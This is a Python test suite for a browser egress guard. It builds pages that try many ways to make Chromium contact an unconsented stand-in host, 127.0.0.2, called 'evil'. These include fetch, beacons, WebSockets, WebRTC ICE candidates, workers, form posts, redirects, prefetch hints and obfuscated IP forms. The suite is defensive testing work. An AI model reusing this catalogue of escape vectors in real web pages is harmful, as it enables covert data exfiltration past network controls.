"""Real Chromium behind the egress proxy: every way a page can make the browser talk
to another host, tried against an unauthorised 127.0.0.2 listening on TCP and UDP.

The flow's consent is 127.0.0.1 (the test consents the loopback address explicitly)
on the site's port. 127.0.0.2 listens on the port the page names, on 80 and 443, and
on UDP on the same ports (STUN, TURN, QUIC, WebTransport): it must see nothing at all,
not even a TCP connection that never sends a request.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Request, Route

from agents.executor import FlowError
from agents.guard import GuardFailed, HostGuard
from agents.playwright_flow import PlaywrightExecutor
from tests.test_executor import (
    JOB,
    VERSION,
    RecordedReport,
    RecordingSite,
    Reply,
    chromium,
    executor,
    flow,
    needs_chromium,
    port_of,
    site,
)

__all__ = ["chromium", "executor", "site"]  # fixtures shared with the executor's tests

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(90)]

# -- the unauthorised host -------------------------------------------------------------


@dataclass
class Listener:
    """127.0.0.2 on TCP and UDP: counts every connection accepted and datagram received."""

    tcp_ports: list[int] = field(default_factory=list)
    connections: list[int] = field(default_factory=list)  # the port of each accepted one
    datagrams: list[tuple[int, bytes]] = field(default_factory=list)
    _servers: list[asyncio.Server] = field(default_factory=list)
    _udp: list[asyncio.DatagramTransport] = field(default_factory=list)

    async def listen(self, port: int = 0, host: str = "127.0.0.2") -> int:
        """Listen on ``port`` (0: any free one) on TCP and on UDP; returns the port."""

        def on_connection(port: int):  # type: ignore[no-untyped-def]
            async def accepted(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
                self.connections.append(port)
                writer.close()

            return accepted

        server = await asyncio.start_server(on_connection(port), host, port)
        port = server.sockets[0].getsockname()[1]
        server._protocol_factory = server._protocol_factory  # keep mypy quiet about reuse
        self._servers.append(server)
        self.tcp_ports.append(port)
        listener = self

        class Datagrams(asyncio.DatagramProtocol):
            def datagram_received(self, data: bytes, addr: tuple[str | object, int]) -> None:
                listener.datagrams.append((port, data))

        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
            Datagrams, local_addr=(host, port)
        )
        self._udp.append(transport)
        return port

    def close(self) -> None:
        for server in self._servers:
            server.close()
        for transport in self._udp:
            transport.close()


@pytest_asyncio.fixture(loop_scope="module")
async def unauthorised() -> AsyncIterator[Listener]:
    listener = Listener()
    await listener.listen()
    for well_known in (80, 443, 3478):
        # taken, or not ours to bind: the page's own port still counts
        with contextlib.suppress(OSError):
            await listener.listen(well_known)
    yield listener
    listener.close()


# -- the pages -----------------------------------------------------------------------


def attack_pages(
    site: RecordingSite, evil: str, evil_port: int, other_port: int, leave: bool = True
) -> str:
    """Serve pages that try every way out; returns the landing URL. ``leave``: the
    landing page also tries to navigate itself out."""
    secure = f"https://127.0.0.2:{evil_port}"
    ws = f"ws://127.0.0.2:{evil_port}"
    html = {"Content-Type": "text/html; charset=utf-8"}
    js = {"Content-Type": "text/javascript"}
    css = {"Content-Type": "text/css"}

    # redirects at every depth: within the site first, then out
    site.redirect("/r3", f"{evil}/redirected")
    site.redirect("/r2", "/r3", status=307)
    site.redirect("/r1", "/r2", status=301)
    site.redirect("/r-secure", f"{secure}/redirected")
    site.redirect("/r-img", f"{evil}/pixel.png")

    site.replies["/ok.css"] = Reply(
        200, f"@import url('{evil}/imported.css'); body {{ color: red }}", css
    )
    site.replies["/font.css"] = Reply(
        200,
        f"@font-face {{ font-family: x; src: url('{evil}/font.woff2') }} body {{ font-family: x;"
        f" background: url('{evil}/bg.png') }}",
        css,
    )
    site.replies["/ok.js"] = Reply(200, "window.okScript = true;", js)
    site.replies["/api"] = Reply(200, "{}", {"Content-Type": "application/json"})
    site.page("/ok-frame", "an authorised frame")
    site.page("/ok", "an authorised page")

    worker = (
        f"fetch('{evil}/from-worker').catch(() => 0);"
        f"try {{ importScripts('{evil}/imported.js'); }} catch (e) {{}}"
        f"try {{ new WebSocket('{ws}/worker-socket'); }} catch (e) {{}}"
    )
    site.replies["/worker.js"] = Reply(200, worker, js)
    site.replies["/shared.js"] = Reply(200, f"fetch('{evil}/from-shared').catch(() => 0);", js)
    site.replies["/sw.js"] = Reply(200, f"fetch('{evil}/from-sw').catch(() => 0);", js)

    # frames: a frame of the site that redirects out, a frame that nests one more level,
    # a frame that refreshes out, a frame that submits a form out, a frame with a ping
    site.page("/nest1", "<iframe src='/nest2'></iframe>")
    site.page("/nest2", "<iframe src='/r1'></iframe><iframe src='/r-secure'></iframe>")
    site.replies["/refresh"] = Reply(
        200, f"<meta http-equiv=refresh content='0;url={evil}/refreshed'>", html
    )
    site.page(
        "/form",
        f"<form id=f method=post action='{evil}/form-post'><input name=a value=1></form>"
        "<script>document.getElementById('f').submit()</script>",
    )
    site.page(
        "/form2",
        f"<form id=g action='{evil}/form-get'><input name=b value=2></form>"
        "<script>document.getElementById('g').submit()</script>",
    )
    site.page(
        "/ping-frame",
        f"<a id=p href='/ok' ping='{evil}/ping'>go</a>"
        "<script>document.getElementById('p').click()</script>",
    )
    site.page("/popup", f"<script>location.href = '{evil}/from-popup'</script>")

    speculation = json.dumps(
        {
            "prefetch": [{"source": "list", "urls": [f"{evil}/spec-prefetch", "/ok-frame"]}],
            "prerender": [{"source": "list", "urls": [f"{evil}/spec-prerender", "/ok"]}],
        }
    )
    rtc = f"""
      (async () => {{
        const servers = [{{urls: 'stun:127.0.0.2:{evil_port}'}},
          {{urls: 'turn:127.0.0.2:{evil_port}?transport=udp', username: 'u', credential: 'p'}},
          {{urls: 'turn:127.0.0.2:{evil_port}?transport=tcp', username: 'u', credential: 'p'}},
          {{urls: 'turns:127.0.0.2:{evil_port}?transport=tcp', username: 'u', credential: 'p'}},
          {{urls: 'stun:127.0.0.2:3478'}}];
        const a = new RTCPeerConnection({{iceServers: servers}});
        const b = new RTCPeerConnection();
        a.createDataChannel('x');
        a.onicecandidate = e => e.candidate && b.addIceCandidate(e.candidate).catch(() => 0);
        const offer = await a.createOffer();
        await a.setLocalDescription(offer);
        await b.setRemoteDescription(offer);
        const answer = await b.createAnswer();
        await b.setLocalDescription(answer);
        await a.setRemoteDescription(answer);
        // a remote candidate on the unauthorised host: connectivity checks would go there
        for (const port of [{evil_port}, 3478]) {{
          for (const c of [`1 1 udp 2122260223 127.0.0.2 ${{port}} typ host`,
                           `2 1 tcp 1518280447 127.0.0.2 ${{port}} typ host tcptype passive`]) {{
            await a.addIceCandidate({{candidate: 'candidate:' + c, sdpMid: '0', sdpMLineIndex: 0}})
              .catch(() => 0);
          }}
        }}
      }})().catch(() => 0);
    """
    script = f"""
      const evil = '{evil}';
      fetch(evil + '/fetch').catch(() => 0);
      fetch(evil + '/no-cors', {{mode: 'no-cors'}}).catch(() => 0);
      fetch('{secure}/fetch-secure').catch(() => 0);
      fetch('/r1').catch(() => 0);
      fetch('http://[::ffff:127.0.0.2]:{evil_port}/mapped').catch(() => 0);
      fetch('http://0x7f000002:{evil_port}/hex').catch(() => 0);
      fetch('http://127.0.0.2/port-80').catch(() => 0);
      fetch('https://127.0.0.2/port-443').catch(() => 0);
      // the consented host on a port its consent does not cover, and other names for it
      fetch('http://127.0.0.1:{other_port}/other-port').catch(() => 0);
      try {{ new WebSocket('ws://127.0.0.1:{other_port}/other-port'); }} catch (e) {{}}
      fetch('http://localhost:' + location.port + '/via-localhost').catch(() => 0);
      fetch('http://[::1]:' + location.port + '/via-ipv6').catch(() => 0);
      const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.send();
      navigator.sendBeacon(evil + '/beacon', 'b');
      try {{ new WebSocket('{ws}/socket'); }} catch (e) {{}}
      try {{ new WebSocket('wss://127.0.0.2:{evil_port}/socket'); }} catch (e) {{}}
      try {{ new EventSource(evil + '/events'); }} catch (e) {{}}
      try {{ new Worker('/worker.js'); }} catch (e) {{}}
      const blob = new Blob(["fetch('" + evil + "/blob-worker').catch(() => 0)"]);
      try {{ new Worker(URL.createObjectURL(blob)); }} catch (e) {{}}
      try {{ new SharedWorker('/shared.js'); }} catch (e) {{}}
      try {{ navigator.serviceWorker.register('/sw.js').catch(() => 0); }} catch (e) {{}}
      try {{
        const t = new WebTransport('{secure}/wt');
        t.ready.catch(() => 0);
        t.closed.catch(() => 0);
      }} catch (e) {{}}
      window.open(evil + '/popup-direct');
      window.open('/r1');
      window.open('/popup');
      new Image().src = '/r-img';
      fetch('/api').then(r => {{ window.apiStatus = r.status; }});
      {rtc}
      const leave = {"true" if leave else "false"};
      // after the load event: a navigation started earlier stops the landing page loading
      // (its document never completes), which is a different story from the one told here
      if (leave) addEventListener('load', () => setTimeout(() => {{
        location.href = evil + '/top-level';
      }}, 300));
    """
    return site.page(
        "/",
        f"<link rel=stylesheet href='/ok.css'><link rel=stylesheet href='/font.css'>"
        f"<link rel=preconnect href='{evil}'><link rel=dns-prefetch href='{evil}'>"
        f"<link rel=preconnect href='{secure}'>"
        f"<link rel=prefetch href='{evil}/prefetch'><link rel=prerender href='{evil}/prerender'>"
        f"<link rel=preload as=script href='{evil}/preload.js'>"
        f"<link rel=modulepreload href='{evil}/module.js'>"
        f"<link rel=icon href='{evil}/favicon.ico'><link rel=manifest href='{evil}/manifest.json'>"
        f"<script type=speculationrules>{speculation}</script>"
        f"<script src='/ok.js'></script><script src='{evil}/tag.js'></script>"
        f"<img src='{evil}/pixel.png'><video src='{evil}/video.mp4'></video>"
        f"<audio src='{evil}/audio.mp3'></audio><object data='{evil}/object'></object>"
        f"<embed src='{evil}/embed'><img srcset='{evil}/srcset.png 2x'>"
        f"<iframe src='/ok-frame'></iframe><iframe src='{evil}/frame'></iframe>"
        f"<iframe src='/nest1'></iframe><iframe src='/refresh'></iframe>"
        f"<iframe src='/form'></iframe><iframe src='/form2'></iframe>"
        f"<iframe src='/ping-frame'></iframe>"
        f"<iframe srcdoc=\"<img src='{evil}/srcdoc.png'>\"></iframe>"
        f"<a href='{evil}/link'>out</a><a href='/ok'>in</a>"
        f"<script>{script}</script>",
    )


async def routing_only_records(self: HostGuard, route: Route, request: Request) -> None:
    """The browser-side guard with its blocking taken out: everything is left to the proxy."""
    await route.continue_()


@needs_chromium
@pytest.mark.slow  # a page trying every way out, for a whole session, twice
@pytest.mark.parametrize("layers", ["proxy and routing", "proxy alone"])
async def test_nothing_reaches_an_unauthorised_host_and_the_site_still_works(
    executor: PlaywrightExecutor,
    site: RecordingSite,
    unauthorised: Listener,
    monkeypatch: pytest.MonkeyPatch,
    layers: str,
) -> None:
    if layers == "proxy alone":
        monkeypatch.setattr(HostGuard, "_on_request", routing_only_records)
    evil_port = unauthorised.tcp_ports[0]
    evil = f"http://127.0.0.2:{evil_port}"
    # without routing, the landing page's own navigation out would get the proxy's refusal
    # as its document, and the flow would end there: the popup's navigation stands for it
    other_port = await unauthorised.listen(host="127.0.0.1")  # the site's host, another port
    url = attack_pages(site, evil, evil_port, other_port, leave=layers == "proxy and routing")
    report = RecordedReport()
    item = flow(
        url,
        clicks=1,
        session_seconds=2.0,
        allowed_ports={"127.0.0.1": [80, 443, port_of(site.origin)]},
    )

    result = await executor.run(item, report)
    await asyncio.sleep(0.5)  # anything still in flight from the closed context lands now

    assert unauthorised.connections == []
    assert unauthorised.datagrams == []
    # the flow's credentials and connections are gone with it
    assert executor.egress.flows == 0
    await asyncio.wait_for(executor.egress.idle(), 5)
    # the site itself fully worked, through the browser's own network stack
    assert report.visits[0] == (url, 200)
    loaded = {"/", "/ok.css", "/font.css", "/ok.js", "/api", "/ok-frame", "/nest1", "/nest2"}
    assert loaded | {"/r1", "/r2", "/r3", "/worker.js", "/popup"} <= set(site.paths())
    assert not {"/via-localhost", "/via-ipv6"} & set(site.paths())  # not consented names
    assert result.clicks_done == 1 and report.clicks == [site.origin + "/ok"]
    # every request carried the job's header: no speculative load went out (they are off)
    assert [h.path for h in site.hits if h.headers.get("x-trafficbuster") != JOB] == []
    assert not any("prefetch" in h.headers.get("sec-purpose", "") for h in site.hits)
    # what was refused is on record: navigations as skipped clicks, connections as refusals
    skipped = {href for href, _ in report.skips}
    assert {f"{evil}/link", f"{evil}/from-popup", f"{evil}/redirected"} <= skipped
    if layers == "proxy and routing":  # refused, and the page stayed where it was
        assert f"{evil}/top-level" in skipped
    reasons = {reason for _, _, reason, _ in report.refusals}
    assert reasons == {"host not consented", "port not consented"}
    # routing lets the consented host through whatever the port: the proxy holds the port
    held = {request for host, _, reason, request in report.refusals if reason.startswith("port")}
    assert {f"GET http://127.0.0.1:{other_port}/other-port"} <= held
    refused = {request for host, _, _, request in report.refusals if host == "127.0.0.2"}
    assert f"CONNECT 127.0.0.2:{evil_port}" in refused  # https, wss, WebTransport's fallback
    # redirect hops and shared workers are never routed: the proxy held them either way
    expected = {"GET /redirected", "GET /pixel.png", "GET /from-shared"}
    if layers == "proxy alone":
        expected |= {
            "GET /fetch", "GET /no-cors", "GET /xhr", "POST /beacon", "GET /events",
            "GET /tag.js", "GET /imported.css", "GET /font.woff2", "GET /bg.png", "GET /frame",
            "POST /ping", "GET /popup-direct", "GET /from-popup",
            "GET /from-worker", "GET /blob-worker", "GET /refreshed", "GET /form-get?b=2",
            "POST /form-post",
        }  # fmt: skip
    missing = {line.replace(" /", f" {evil}/", 1) for line in expected} - refused
    assert missing == set(), sorted(refused)


@needs_chromium
async def test_a_proxy_that_is_not_listening_fails_the_flow_closed(
    tmp_path: Path, site: RecordingSite
) -> None:
    executor = PlaywrightExecutor(VERSION)
    await executor.start()
    try:
        await executor.egress.close()
        url = site.page("/", "hello")
        with pytest.raises(FlowError) as failure:
            await executor.run(flow(url), RecordedReport())
    finally:
        await executor.close()
    assert failure.value.reason.startswith("guard:")
    assert site.hits == []


@needs_chromium
async def test_a_guard_that_cannot_be_installed_fails_the_flow_closed(
    executor: PlaywrightExecutor, site: RecordingSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def broken(self: HostGuard, context: object) -> None:
        raise GuardFailed("routing not installed: Target closed")

    monkeypatch.setattr(HostGuard, "install", broken)
    url = site.page("/", "hello")
    with pytest.raises(FlowError) as failure:
        await executor.run(flow(url), RecordedReport())
    assert failure.value.reason == "guard: routing not installed: Target closed"
    assert site.hits == []
    assert executor.egress.flows == 0


# -- DNS mode --------------------------------------------------------------------------


@needs_chromium
async def test_the_host_map_sends_a_name_to_its_address_and_the_address_is_checked(
    executor: PlaywrightExecutor, site: RecordingSite, unauthorised: Listener
) -> None:
    port = port_of(site.origin)
    url = site.page("/", "mapped")
    mapped_url = url.replace("127.0.0.1", "shop.test")
    consented = {"shop.test": [port], "127.0.0.1": [port]}
    report = RecordedReport()

    await executor.run(
        flow(
            mapped_url,
            allowed_hosts=("shop.test", "127.0.0.1"),
            allowed_ports=consented,
            host_map={"shop.test": "127.0.0.1"},
        ),
        report,
    )
    assert report.visits == [(mapped_url, 200)]
    assert site.hits[0].headers["host"] == f"shop.test:{port}"

    # mapped to an address the consent does not name: refused, whatever the name
    evil_port = unauthorised.tcp_ports[0]
    elsewhere = f"http://shop.test:{evil_port}/"
    with pytest.raises(FlowError) as failure:
        await executor.run(
            flow(
                elsewhere,
                allowed_hosts=("shop.test",),
                allowed_ports={"shop.test": [evil_port]},
                host_map={"shop.test": "127.0.0.2"},
            ),
            report,
        )
    assert failure.value.reason == "egress_refused: loopback address"
    assert not failure.value.retryable
    assert ("shop.test", evil_port, "loopback address", f"GET {elsewhere}") in report.refusals
    assert unauthorised.connections == []
